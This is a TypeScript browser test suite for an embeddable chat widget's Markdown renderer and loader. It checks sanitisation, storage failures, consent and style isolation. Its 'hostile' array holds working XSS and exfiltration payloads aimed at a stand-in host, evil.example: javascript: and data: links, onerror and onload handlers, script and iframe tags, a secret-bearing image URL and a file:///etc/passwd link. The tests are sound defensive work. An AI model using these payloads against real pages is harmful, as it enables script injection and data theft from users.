/** What a hostile model, server, page or browser may try, in a real DOM. */
import { expect } from '@open-wc/testing';
import { createMarkdown } from '../../../widget/markdown/markdown.ts';
import { all, answerText, asked, bffUrl, chat, clean, find, need, until } from './help.ts';

afterEach(clean);

const words = { image: 'Image', done: 'Done', open: 'To do', copyCode: 'Copy code', table: 'Table' };
const evil = 'https://evil.example';
const hostile = [
  `![x](${evil}/a.png?q=secret)`, `![x](${evil}/a.png "t")`, `<img src="${evil}/b.png" onerror="window.pwned=1">`, `[![x](${evil}/c.png)](javascript:window.pwned=1)`,
  '[click](javascript:window.pwned=1)', '[click](JAVASCRIPT&colon;alert(1))', '[click]( javascript:alert(1))', '[click](data:text/html,<script>window.pwned=1</script>)', '<javascript:window.pwned=1>',
  '<script>window.pwned=1</script>', '<svg onload="window.pwned=1">', '<iframe src="//evil.example"></iframe>', `<style>@import "${evil}/d.css";</style>`, `<link rel=stylesheet href="${evil}/e.css">`,
  '<a href="javascript:window.pwned=1">x</a>', `| ![x](${evil}/f.png) | <img src=${evil}/g.png> |\n|---|---|\n| [a](javascript:window.pwned=1) | ${'`<img>`'} |`,
  `[ref]: ${evil}/h.png\n![ref]`, `\`\`\`html\n<img src="${evil}/i.png">\n\`\`\``, '[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example) [d](/login) [e](#x)', '&lt;img src=x onerror=alert(1)&gt;',
];

describe('hostile Markdown', () => {
  it('fetches nothing, leaves no dangerous address and no element of its own, at any moment', async () => {
    const root = document.createElement('div');
    document.body.append(root);
    const observer = new PerformanceObserver(() => undefined);
    observer.observe({ type: 'resource' });
    const text = hostile.join('\n\n');
    const stream = createMarkdown(document, root, words);
    for (const char of text) {
      stream.write(char);
      stream.flush();
      if (root.querySelector('img,script,style,link,iframe,svg,object,embed,video,audio,form,input,[style],[onerror],[onload],[src],[srcset]')) throw new Error(`an element got through: ${root.innerHTML}`);
      for (const anchor of root.querySelectorAll('a')) if (!/^(?:https?:|mailto:)/.test(anchor.getAttribute('href') ?? '')) throw new Error(anchor.outerHTML);
    }
    stream.end();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil.example'))).to.deep.equal([]);
    expect((window as { pwned?: number }).pwned).to.equal(undefined);
    expect(root.textContent).to.contain('<script>window.pwned=1</script>');
    observer.disconnect();
    root.remove();
  });

  it('shows where a link goes', async () => {
    const element = await chat();
    await asked(element, `hostile\n[your bank](https://evil.example/login) and ![a cat](${evil}/cat.png)`);
    const [link, image] = [...shadowLinks(element)];
    expect(link?.title).to.equal('https://evil.example/login');
    expect([link?.rel, link?.target]).to.deep.equal(['noopener noreferrer nofollow ugc', '_blank']);
    expect(image?.textContent).to.equal('Image: a cat');
    expect(all(element, 'img').length).to.equal(0);
  });

  it('gives the same DOM char by char as at once', () => {
    const text = hostile.join('\n\n');
    const [a, b] = [document.createElement('div'), document.createElement('div')];
    const piecewise = createMarkdown(document, a, words);
    for (const char of text) {
      piecewise.write(char);
      piecewise.flush();
    }
    piecewise.end();
    const atOnce = createMarkdown(document, b, words);
    atOnce.write(text);
    atOnce.end();
    a.normalize();
    b.normalize();
    expect(a.isEqualNode(b)).to.equal(true);
  });

  it('renders a megabyte without hanging', () => {
    const root = document.createElement('div');
    const stream = createMarkdown(document, root, words);
    const started = performance.now();
    stream.write('A sentence with **bold** and `code`, *and [a link](https://a.example/)* in it. '.repeat(12_500));
    stream.end();
    expect(performance.now() - started).to.be.lessThan(4_000);
  });
});

describe('a browser that keeps nothing', () => {
  for (const kind of ['localStorage', 'sessionStorage'] as const) {
    it(`works when ${kind} throws`, async () => {
      const real = Object.getOwnPropertyDescriptor(window, kind);
      Object.defineProperty(window, kind, { configurable: true, get: () => { throw new DOMException('blocked', 'SecurityError'); } });
      try {
        const element = await chat({}, true);
        await asked(element, 'hello');
        expect(answerText(element)).to.equal('Hello! Glad you are here.');
      } finally {
        if (real) Object.defineProperty(window, kind, real);
      }
    });
  }

  it('works when storage is full', async () => {
    const real = Storage.prototype.setItem;
    Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); };
    try {
      const element = await chat();
      await asked(element, 'hello');
      await asked(element, 'hello again');
      expect(all(element, '.answer').length).to.equal(2);
    } finally {
      Storage.prototype.setItem = real;
    }
  });

  it('writes nothing without consent', async () => {
    const element = await chat({ consent: 'required' });
    await asked(element, 'hello');
    expect([localStorage.length, sessionStorage.length]).to.deep.equal([0, 0]);
  });
});

describe('on a page', () => {
  it('two widgets do not disturb each other', async () => {
    const [a, b] = [await chat({ mode: 'inline', site: 'hs_pub_a' }), await chat({ mode: 'inline', site: 'hs_pub_b' })];
    a.send('hello');
    await asked(b, 'a tool');
    await until('the other answer', () => answerText(a) === 'Hello! Glad you are here.');
    expect(answerText(b)).to.contain('healthy');
    expect([all(a, '.question').length, all(b, '.question').length]).to.deep.equal([1, 1]);
  });

  it('stands its ground against the page\'s styles', async () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync('* { color: red !important; font-size: 40px !important; position: static !important } halfsecond-chat:empty, div:empty { display: none } halfsecond-chat { display: none; opacity: 1 }');
    document.adoptedStyleSheets.push(sheet);
    const element = await chat();
    element.open();
    await element.updateComplete;
    expect(getComputedStyle(element).display).to.equal('block');
    expect(getComputedStyle(need(element, '.titles h2')).fontSize).to.equal('15px');
    expect(need(element, '.launcher').getBoundingClientRect().width).to.be.greaterThan(40);
    document.adoptedStyleSheets = [];
  });

  it('covers no more of the page than launcher and panel', async () => {
    const element = await chat();
    await element.updateComplete;
    expect(document.elementFromPoint(10, 10)?.localName).to.not.equal('halfsecond-chat');
    element.open();
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(document.elementFromPoint(10, 10)?.localName).to.not.equal('halfsecond-chat');
  });
});

describe('the script tag', () => {
  const load = (attributes: Record<string, string> = {}): Promise<void> => new Promise((resolve, reject) => {
    const script = document.createElement('script');
    script.src = `${bffUrl}/halfsecond.js`;
    for (const [name, value] of Object.entries({ 'data-site': 'hs_pub_demo', ...attributes })) script.setAttribute(name, value);
    script.onload = () => resolve();
    script.onerror = () => reject(new Error('the loader was not served'));
    document.head.append(script);
  });

  it('shows one launcher however often it is included, runs queued calls, and pins the panel', async () => {
    localStorage.clear();
    sessionStorage.clear();
    const heard: string[] = [];
    (window as { Halfsecond?: unknown }).Halfsecond = [['open'], (element: HTMLElement) => heard.push(element.localName)];
    await load({ 'data-status-url': 'https://status.example/' });
    await load();
    const elements = document.querySelectorAll('halfsecond-chat');
    expect(elements.length).to.equal(1);
    const element = elements[0] as HTMLElement;
    expect(element.getAttribute('endpoint')).to.equal(bffUrl);
    await until('the open panel', () => element.hasAttribute('open'));
    await until('the queued function', () => heard.length === 1);
    expect(all(element, '.launcher').length).to.equal(1);
    expect(need<HTMLAnchorElement>(element, '[part=subtitle] a').href).to.equal('https://status.example/');
    const module = document.querySelector<HTMLScriptElement>('script[type=module][integrity]');
    expect(module?.integrity).to.match(/^sha384-/);
    expect(module?.crossOrigin).to.equal('anonymous');
    (window as unknown as { Halfsecond: { close(): void } }).Halfsecond.close();
    await until('the closed panel', () => !element.hasAttribute('open'));
    expect(find(element, '.popup')?.hidden).to.equal(true);
  });
});

function shadowLinks(element: Element): HTMLAnchorElement[] {
  return all(element, '.prose a') as HTMLAnchorElement[];
}
